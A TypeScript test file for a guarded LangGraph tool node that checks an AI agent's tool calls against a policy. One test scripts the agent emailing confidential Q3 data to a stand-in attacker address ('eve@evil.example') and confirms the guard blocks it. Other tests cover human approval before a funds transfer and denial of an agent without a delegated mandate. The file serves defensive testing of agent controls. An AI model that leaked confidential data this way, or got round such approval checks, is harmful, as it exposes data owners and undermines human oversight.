import { type AIMessage, HumanMessage } from "@langchain/core/messages";
import type { StructuredToolInterface } from "@langchain/core/tools";
import { Command, END, isInterrupted, MemorySaver, START, StateGraph } from "@langchain/langgraph";
import type { Guard } from "@mandate/core";
import { describe, expect, it } from "vitest";
import {
  type ApprovalPayload,
  answerApproval,
  createGuardedToolNode,
  MandateMessagesAnnotation,
} from "../src/index.ts";
import { byCall, callTools, kindsFor, say, schemas, scripted, setup, spyTool } from "./helpers.ts";

/** The classic agent <-> ToolNode loop, with the ToolNode swapped for the guarded one. */
function loop(
  model: ReturnType<typeof scripted>,
  tools: StructuredToolInterface[],
  guard: Guard,
  agentName?: string,
) {
  const bound = model.bindTools(tools);
  return new StateGraph(MandateMessagesAnnotation)
    .addNode("agent", async (state) => ({ messages: [await bound.invoke(state.messages)] }))
    .addNode(
      "tools",
      createGuardedToolNode(
        tools,
        guard,
        agentName === undefined ? {} : { agentName, requireDelegation: true },
      ),
    )
    .addEdge(START, "agent")
    .addConditionalEdges(
      "agent",
      (s) => (((s.messages.at(-1) as AIMessage).tool_calls?.length ?? 0) > 0 ? "tools" : END),
      ["tools", END],
    )
    .addEdge("tools", "agent")
    .compile({ checkpointer: new MemorySaver() });
}

describe("createGuardedToolNode", () => {
  it("is a drop-in ToolNode: taint from a confidential read denies later external egress", async () => {
    const s = await setup();
    const read = spyTool("read_doc", schemas.readDoc, () => "CONFIDENTIAL: q3 numbers");
    const email = spyTool("send_email", schemas.sendEmail);
    const model = scripted(
      callTools("a1", [{ name: "read_doc", args: { id: "q3" }, id: "t_read" }]),
      callTools("a2", [
        { name: "send_email", args: { to: "Eve <eve@evil.example>", body: "q3" }, id: "t_out" },
        { name: "send_email", args: { to: "cfo@acme.example", body: "q3" }, id: "t_in" },
      ]),
      say("a3", "sent internally"),
    );
    const graph = loop(model, [read.tool, email.tool], s.guard);
    const out = await graph.invoke(
      { messages: [new HumanMessage("go")], mandate: s.mandate },
      { configurable: { thread_id: "tn-1" } },
    );
    expect(read.fn).toHaveBeenCalledTimes(1);
    expect(email.fn).toHaveBeenCalledTimes(1);
    expect(email.fn).toHaveBeenCalledWith({ to: "cfo@acme.example", body: "q3" });
    expect(String(byCall(out.messages, "t_out")?.content)).toContain("no-external-egress-after-confidential");
    expect(kindsFor(s.sink.events, "t_read")).toEqual(["tool.request", "tool.decision", "tool.result"]);
  });

  it("pauses for approval before running anything, resumes by interrupt id", async () => {
    const s = await setup();
    const pay = spyTool("transfer_funds", schemas.transfer, ({ amount }) => `paid ${amount}`);
    const search = spyTool("search", schemas.search);
    const model = scripted(
      callTools("b1", [
        { name: "search", args: { q: "x" }, id: "t_s" },
        { name: "transfer_funds", args: { amount: 2000, to: "v" }, id: "t_p" },
      ]),
      say("b2", "ok"),
    );
    const graph = loop(model, [search.tool, pay.tool], s.guard);
    const cfg = { configurable: { thread_id: "tn-2" } };
    const first = await graph.invoke({ messages: [new HumanMessage("go")], mandate: s.mandate }, cfg);
    if (!isInterrupted(first)) throw new Error("expected an interrupt");
    expect(search.fn).toHaveBeenCalledTimes(0);
    expect(pay.fn).toHaveBeenCalledTimes(0);
    const pause = first.__interrupt__[0];
    const answer = answerApproval(pause?.value as ApprovalPayload, { approved: true });
    const out = await graph.invoke(new Command({ resume: { [pause?.id ?? ""]: answer } }), cfg);
    expect(search.fn).toHaveBeenCalledTimes(1);
    expect(pay.fn).toHaveBeenCalledTimes(1);
    expect(byCall(out.messages, "t_p")?.content).toBe("paid 2000");
    expect(kindsFor(s.sink.events, "t_s")).toEqual(["tool.request", "tool.decision", "tool.result"]);
  });

  it("requireDelegation: an agent with no child mandate does not fall back to the root", async () => {
    const s = await setup();
    const search = spyTool("search", schemas.search);
    const model = scripted(
      callTools("c1", [{ name: "search", args: { q: "x" }, id: "t_rd" }]),
      say("c2", "no"),
    );
    const graph = loop(model, [search.tool], s.guard, "worker");
    const out = await graph.invoke(
      { messages: [new HumanMessage("go")], mandate: s.mandate },
      { configurable: { thread_id: "tn-3" } },
    );
    expect(search.fn).toHaveBeenCalledTimes(0);
    expect(String(byCall(out.messages, "t_rd")?.content)).toContain("no mandate was presented");
  });

  it("the wrapped tools keep the model-facing definition", async () => {
    const s = await setup();
    const search = spyTool("search", schemas.search);
    const node = createGuardedToolNode([search.tool], s.guard);
    const wrapped = node.tools[0] as StructuredToolInterface;
    expect(wrapped.name).toBe("search");
    expect(wrapped.description).toBe(search.tool.description);
    expect(wrapped.schema).toBe(search.tool.schema);
  });
});
